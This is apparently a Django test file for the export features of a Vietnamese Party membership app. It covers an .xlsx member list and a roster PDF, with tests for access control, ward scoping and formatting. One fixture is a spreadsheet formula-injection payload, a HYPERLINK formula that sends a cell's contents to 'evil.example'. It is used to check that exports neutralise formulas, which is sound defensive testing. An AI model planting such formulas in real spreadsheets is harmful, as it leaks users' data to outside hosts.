"""Exports: the .xlsx member list and the roster PDF, with their scope."""

import shutil
import subprocess
import tempfile
from datetime import date, datetime
from io import BytesIO
from pathlib import Path
from unittest import skipUnless

from openpyxl import load_workbook

from dangbo.members import exports, importer
from dangbo.members.actions import create_member, record_status
from dangbo.members.choices import Status
from dangbo.members.views_io import XLSX
from dangbo.test import BaseTestCase

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'


class ExportTestCase(BaseTestCase):
    @classmethod
    def setUpTestData(cls):
        super().setUpTestData()
        cls.official = create_member(
            organization=cls.cell, by=cls.office, status=Status.OFFICIAL, full_name="Nguyễn Văn Hùng", sex="male",
            date_of_birth=date(1960, 5, 19), citizen_id="040060000001", phone="0912345678",
            admission_date=date(1985, 2, 3), official_date=date(1986, 2, 3), card_number="10000001",
            theory_level="advanced", professional_degree="bachelor", ethnicity="Thái",
        )
        cls.probationary = create_member(
            organization=cls.cell, by=cls.office, full_name="Lê Thị Lan", sex="female", date_of_birth=date(2000, 1, 2),
            admission_date=date(2025, 3, 26), card_number="10000002",
        )
        cls.removed = create_member(
            organization=cls.school_cell, by=cls.office, status=Status.OFFICIAL, full_name="Trần Văn Bỏ", sex="male",
            date_of_birth=date(1970, 1, 1), admission_date=date(1995, 1, 1), official_date=date(1996, 1, 1),
            card_number="10000003",
        )
        record_status(cls.removed, status=Status.REMOVED, effective_on=date(2024, 6, 1), by=cls.office,
                      decision_reference="12-QĐ/ĐU")
        cls.formula = create_member(
            organization=cls.school_cell, by=cls.office, full_name=HYPERLINK, sex="female",
            date_of_birth=date(1980, 1, 1), admission_date=date(2005, 1, 1), card_number="10000004",
            occupation="+84 giáo viên", workplace="@Trường", residence_address="-1+1",
        )
        cls.elsewhere = create_member(
            organization=cls.other_cell, by=cls.outsider, full_name="Người Phường Khác", sex="male",
            date_of_birth=date(1970, 1, 1), admission_date=date(1995, 1, 1), card_number="10000009",
        )


def sheet_of(response):
    return load_workbook(BytesIO(response.content)).active


def rows_of(response):
    sheet = sheet_of(response)
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, (c.value for c in row))) for row in sheet.iter_rows(min_row=2)]


class ExportXlsxTests(ExportTestCase):
    url = "/members/export.xlsx"

    def test_it_requires_login(self):
        response = self.client.get(self.url, {"org": self.ward.pk})
        self.assertEqual(response.status_code, 302)

    def test_it_exports_every_status_with_the_status_column(self):
        self.client.force_login(self.secretary)
        response = self.client.get(self.url, {"org": self.ward.pk})
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], XLSX)
        self.assertRegex(response["Content-Disposition"], r'attachment; filename="dang-vien-NA\.VH-\d{8}\.xlsx"')
        self.assertEqual([c.value for c in sheet_of(response)[1]], exports.EXPORT_HEADERS)
        rows = rows_of(response)
        self.assertEqual({r["Số thẻ đảng viên"] for r in rows}, {"10000001", "10000002", "10000003", "10000004"})
        status = {r["Số thẻ đảng viên"]: r["Tình trạng"] for r in rows}
        self.assertEqual(status, {"10000001": "Chính thức", "10000002": "Dự bị", "10000003": "Xóa tên",
                                  "10000004": "Dự bị"})

    def test_it_writes_profile_columns_in_vietnamese(self):
        self.client.force_login(self.office)
        row = next(r for r in rows_of(self.client.get(self.url, {"org": self.ward.pk}))
                   if r["Số thẻ đảng viên"] == "10000001")
        self.assertEqual(row["Họ và tên"], "Nguyễn Văn Hùng")
        self.assertEqual(row["Giới tính"], "Nam")
        self.assertEqual(row["Ngày sinh"], datetime(1960, 5, 19))
        self.assertEqual(row["Số CCCD"], "040060000001")
        self.assertEqual(row["Điện thoại"], "0912345678")
        self.assertEqual(row["Lý luận chính trị"], "Cao cấp")
        self.assertEqual(row["Chuyên môn"], "Đại học")
        self.assertEqual(row["Dân tộc"], "Thái")
        self.assertEqual(row["Chi bộ"], "Chi bộ Khối 1")
        sheet = sheet_of(self.client.get(self.url, {"org": self.ward.pk}))
        self.assertEqual(sheet.cell(2, exports.EXPORT_HEADERS.index("Ngày sinh") + 1).number_format, "DD/MM/YYYY")

    def test_it_neutralises_formulas(self):
        self.client.force_login(self.office)
        row = next(r for r in rows_of(self.client.get(self.url, {"org": self.ward.pk}))
                   if r["Số thẻ đảng viên"] == "10000004")
        self.assertEqual(row["Họ và tên"], "'" + HYPERLINK)
        self.assertEqual(row["Nghề nghiệp"], "'+84 giáo viên")
        self.assertEqual(row["Nơi làm việc"], "'@Trường")
        self.assertEqual(row["Nơi ở hiện nay"], "'-1+1")
        sheet = sheet_of(self.client.get(self.url, {"org": self.ward.pk}))
        for row in sheet.iter_rows():
            for cell in row:
                self.assertNotEqual(cell.data_type, "f", cell.coordinate)

    def test_it_filters_by_subtree_and_status(self):
        self.client.force_login(self.secretary)
        rows = rows_of(self.client.get(self.url, {"org": self.cell.pk, "status": "official"}))
        self.assertEqual([r["Số thẻ đảng viên"] for r in rows], ["10000001"])
        rows = rows_of(self.client.get(self.url, {"org": self.ward.pk, "status": ""}))
        self.assertNotIn("10000003", [r["Số thẻ đảng viên"] for r in rows])

    def test_it_defaults_to_the_top_writable_organization(self):
        self.client.force_login(self.cell_secretary)
        rows = rows_of(self.client.get(self.url))
        self.assertEqual({r["Số thẻ đảng viên"] for r in rows}, {"10000001", "10000002"})

    def test_it_hides_other_wards(self):
        self.client.force_login(self.outsider)
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 404)
        self.assertEqual(self.client.get(self.url, {"org": self.cell.pk}).status_code, 404)
        self.client.force_login(self.cell_secretary)
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 404)

    def test_it_requires_write_access(self):
        self.client.force_login(self.readonly)
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 403)
        self.client.force_login(self.member)
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 404)
        self.assertEqual(self.client.get(self.url, {"org": self.cell.pk}).status_code, 403)
        self.client.force_login(self.citizen)
        self.assertEqual(self.client.get(self.url).status_code, 404)

    def test_an_exported_list_imports_back_unchanged(self):
        self.client.force_login(self.office)
        response = self.client.get(self.url, {"org": self.ward.pk})
        folder = Path(tempfile.mkdtemp())
        self.addCleanup(shutil.rmtree, folder, ignore_errors=True)
        path = folder / "export.xlsx"
        path.write_bytes(response.content)
        report = importer.analyse(path, self.ward)
        self.assertEqual(report.errors, [])
        self.assertEqual(report.warnings, ["Bỏ qua các cột không thuộc mẫu: Tình trạng."])
        self.assertEqual((len(report.new), len(report.updated), len(report.unchanged)), (0, 0, 4))


class RosterPdfTests(ExportTestCase):
    url = "/members/roster.pdf"

    def test_it_renders_the_roster(self):
        self.client.force_login(self.secretary)
        response = self.client.get(self.url, {"org": self.ward.pk})
        self.assertEqual(response.status_code, 200)
        self.assertEqual(response["Content-Type"], "application/pdf")
        self.assertTrue(response.content.startswith(b"%PDF"))

    @skipUnless(shutil.which("pdftotext"), "pdftotext (poppler-utils) is not installed")
    def test_it_follows_the_partys_format(self):
        self.client.force_login(self.secretary)
        content = self.client.get(self.url, {"org": self.ward.pk}).content
        text = subprocess.run(["pdftotext", "-layout", "-", "-"], input=content, capture_output=True,
                              check=True).stdout.decode()
        for expected in ("ĐẢNG BỘ TỈNH NGHỆ AN", "ĐẢNG ỦY PHƯỜNG VINH HƯNG", "ĐẢNG CỘNG SẢN VIỆT NAM",
                         "Vinh Hưng, ngày", "DANH SÁCH ĐẢNG VIÊN", "STT", "Họ và tên", "Tình trạng",
                         "Nguyễn Văn Hùng", "19/05/1960", "Trần Văn Bỏ", "Xóa tên", "Chi bộ Khối 1",
                         "T/M ĐẢNG ỦY", "BÍ THƯ"):
            self.assertIn(expected, text)
        self.assertNotIn("Người Phường Khác", text)
        # Landscape A4: 842 × 595 points.
        info = subprocess.run(["pdfinfo", "-"], input=content, capture_output=True).stdout.decode()
        self.assertRegex(info, r"Page size:\s+841\.\d+ x 595\.\d+")

    def test_a_cell_roster_names_the_ward_above_it(self):
        context = exports.roster_context(self.cell, [self.official], on=date(2026, 2, 5))
        self.assertEqual(context["superior"], "ĐẢNG BỘ PHƯỜNG VINH HƯNG")
        self.assertEqual(context["issuing_body"], "CHI BỘ KHỐI 1")
        self.assertEqual(context["date_line"], "Vinh Hưng, ngày 05 tháng 02 năm 2026")
        context = exports.roster_context(self.ward, [], on=date(2025, 11, 23))
        self.assertEqual((context["superior"], context["issuing_body"]),
                         ("ĐẢNG BỘ TỈNH NGHỆ AN", "ĐẢNG ỦY PHƯỜNG VINH HƯNG"))
        self.assertEqual(context["date_line"], "Vinh Hưng, ngày 23 tháng 11 năm 2025")

    def test_it_hides_other_wards(self):
        self.client.force_login(self.outsider)
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 404)
        self.client.force_login(self.member)
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 404)

    def test_it_requires_write_access(self):
        self.client.force_login(self.readonly)
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 403)
        self.client.force_login(self.member)
        self.assertEqual(self.client.get(self.url, {"org": self.cell.pk}).status_code, 403)

    def test_it_requires_login(self):
        self.assertEqual(self.client.get(self.url, {"org": self.ward.pk}).status_code, 302)
